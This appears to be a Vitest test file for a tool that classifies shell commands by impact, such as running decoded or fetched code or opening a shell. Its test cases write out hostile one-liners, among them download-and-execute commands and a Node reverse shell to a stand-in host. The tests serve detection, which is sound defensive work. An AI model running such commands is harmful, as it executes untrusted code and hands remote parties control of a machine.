import { describe, expect, it } from 'vitest'
import { impactsIn } from '../../../src/facts/impacts/read-impacts.ts'
import { impactText } from '../../../src/words/impact-words.ts'
import { factsOf } from '../../support/shell-facts.ts'

const said = (command: string) =>
  impactsIn(factsOf(command))
    .filter(({ area }) => /^(?:decoded-code|fetched-code|opened-access)$/.test(area))
    .map(impactText)
    .join('; ')

describe('code on the command line', () => {
  it.each([
    [`ruby -e 'eval(Base64.decode64("bHM="))'`, 'runs what it decodes'],
    [`perl -MMIME::Base64 -e 'system(decode_base64("bHM="))'`, 'runs what it decodes'],
    [`node -e 'Function(atob("YWxlcnQ="))()'`, 'runs what it decodes'],
    [`python3 -c 'import requests; exec(requests.get("http://a.example").text)'`, 'runs what it fetches'],
    [`php -r 'include("https://a.example/x.php");'`, 'runs what it fetches'],
    [`pwsh -c "iwr http://a.example/y.txt -OutFile z.exe; .\\z.exe"`, 'runs what it fetches'],
    [`python3 -c 'torch.hub.load("a/b", "c")'`, 'runs what comes with a model or a dataset'],
    [
      `node -e 'require("net").connect(4444,"a.example",function(){this.pipe(require("child_process").spawn("/bin/sh").stdin)})'`,
      'opens a shell of this machine',
    ],
  ])('%s', (command, text) => {
    expect(said(command)).toBe(text)
  })

  it.each([
    `ruby -e 'puts Base64.decode64("bHM=")'`,
    `python3 -c 'import requests; print(requests.get("http://a.example").text)'`,
    `pwsh -c "iwr http://a.example/y.txt -OutFile z.exe; Get-Item z-old"`,
    `node -e 'require("net").connect(5432,"localhost").end()'`,
    `python3 -c '# exec(b64decode(x))'`,
    `echo 'eval(Base64.decode64("bHM="))'`,
  ])('runs nothing of that by %s', (command) => {
    expect(said(command)).toBe('')
  })
})
